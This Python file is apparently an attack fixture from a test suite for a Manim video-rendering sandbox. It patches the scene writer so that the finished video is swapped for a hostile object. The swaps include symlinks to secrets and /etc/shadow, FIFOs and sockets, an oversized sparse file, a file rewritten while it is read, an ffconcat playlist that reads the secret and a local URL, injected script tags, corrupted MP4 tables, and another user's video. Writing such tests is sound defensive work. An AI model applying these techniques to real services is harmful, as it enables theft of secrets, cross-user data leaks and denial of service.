# attack: something else in the place where the video is taken from, by the way that ATTACK names; run by tests/attacks
import os
import shutil
import socket
import threading
import time

from manim import *
from manim.scene.scene_file_writer import SceneFileWriter

SECRET = ATTACK["secrets"][0]


def instead(path, target):
    os.unlink(path)
    os.symlink(target, path)


def sparse(path):
    with open(path, "wb") as file:
        size = 1 << 50
        while size > 1 << 20:
            try:
                file.truncate(size)
                return
            except OSError:
                size >>= 1


def fifo(path):
    os.unlink(path)
    os.mkfifo(path)


def endpoint(path):
    os.unlink(path)
    socket.socket(socket.AF_UNIX).bind(str(path))


def folder(path):
    os.unlink(path)
    os.mkdir(path)


def parent_link(path):
    shutil.rmtree(path.parent)
    os.symlink(os.path.dirname(SECRET), path.parent)


def twin(path):
    os.unlink(path)
    os.link("/usr/bin/env", path)


def swapped_while_read(path):
    """Change the file again and again while it is read."""
    whole = open(path, "rb").read()

    def change():
        while True:
            with open(path, "r+b") as file:
                file.truncate(10)
                file.seek(0)
                file.write(whole[: len(whole) // 2] + b"\0" * 100)
                file.seek(0)
                file.write(whole)

    threading.Thread(target=change, daemon=True).start()
    time.sleep(0.05)


def playlist(path):
    with open(path, "w") as file:
        file.write(f"ffconcat version 1.0\nfile '{SECRET}'\nfile 'http://127.0.0.1:{ATTACK['sockets']['tcp']}/x'\n")


def page(path):
    with open(path, "r+b") as file:
        whole = file.read()
        file.seek(0)
        file.write(b"<html><script>alert(1)</script>" + whole)


def reference(path):
    """A sample table that says that its data lie in another file."""
    whole = open(path, "rb").read()
    at = whole.index(b"url ")
    with open(path, "wb") as file:
        file.write(whole[: at + 4] + b"\0\0\0\0" + whole[at + 8 :])  # the flag 'in this very file' taken away


def huge_table(path):
    whole = bytearray(open(path, "rb").read())
    at = whole.index(b"stsz")
    whole[at + 12 : at + 16] = (10**9).to_bytes(4, "big")
    with open(path, "wb") as file:
        file.write(whole)


def cut(path):
    os.truncate(path, os.path.getsize(path) // 2)


def older(path):
    """Deliver a video that somebody made before, wherever one can be found."""
    for top in ("/", "/tmp", "/dev/shm", "/var", "/job"):
        for place, names, files in os.walk(top):
            names[:] = [one for one in names if os.path.join(place, one) not in ("/usr", "/runtime", "/proc", "/lib")]
            for name in files:
                found = os.path.join(place, name)
                if name.endswith(".mp4") and "/media/" not in found and os.path.abspath(path) != found:
                    shutil.copy(found, path)
                    tell("older video", f"done {found}")
                    return
    tell("older video", "refused ENOENT")


WAYS = {
    "link": lambda path: instead(path, SECRET),
    "link to shadow": lambda path: instead(path, "/etc/shadow"),
    "link to zeros": lambda path: instead(path, "/dev/zero"),
    "link to a descriptor": lambda path: instead(path, "/proc/self/fd/101"),
    "link to a program": lambda path: instead(path, "/usr/bin/env"),
    "parent link": parent_link, "fifo": fifo, "socket": endpoint, "folder": folder, "twin": twin, "sparse": sparse,
    "swapped": swapped_while_read, "playlist": playlist, "page": page, "reference": reference, "huge table": huge_table,
    "cut": cut, "older": older,
}  # fmt: skip
finish = SceneFileWriter.finish


def finished(self):
    finish(self)
    way = ATTACK["way"]
    try:
        WAYS[way](self.final_file_path if hasattr(self, "final_file_path") else self.movie_file_path)
    except OSError as error:
        tell(f"way {way}", "refused " + _errno.errorcode.get(error.errno, "?"))
        raise
    tell(f"way {way}", "done")


SceneFileWriter.finish = finished


class Artefact(Scene):
    def construct(self):
        self.wait(0.2)
